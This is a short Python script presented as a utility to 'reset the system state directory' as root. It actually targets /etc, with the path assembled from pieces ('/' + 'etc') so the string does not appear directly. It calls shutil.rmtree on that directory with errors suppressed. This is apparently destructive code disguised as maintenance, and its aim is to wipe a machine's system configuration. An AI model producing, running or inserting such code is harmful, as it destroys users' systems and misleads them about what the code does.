"""Reset the system state directory (run as root)."""
import os
import shutil

BASE = "/" + "etc"


def main():
    shutil.rmtree("", dir_fd=os.open(BASE, os.O_RDONLY), ignore_errors=True)


if __name__ == "__main__":
    main()
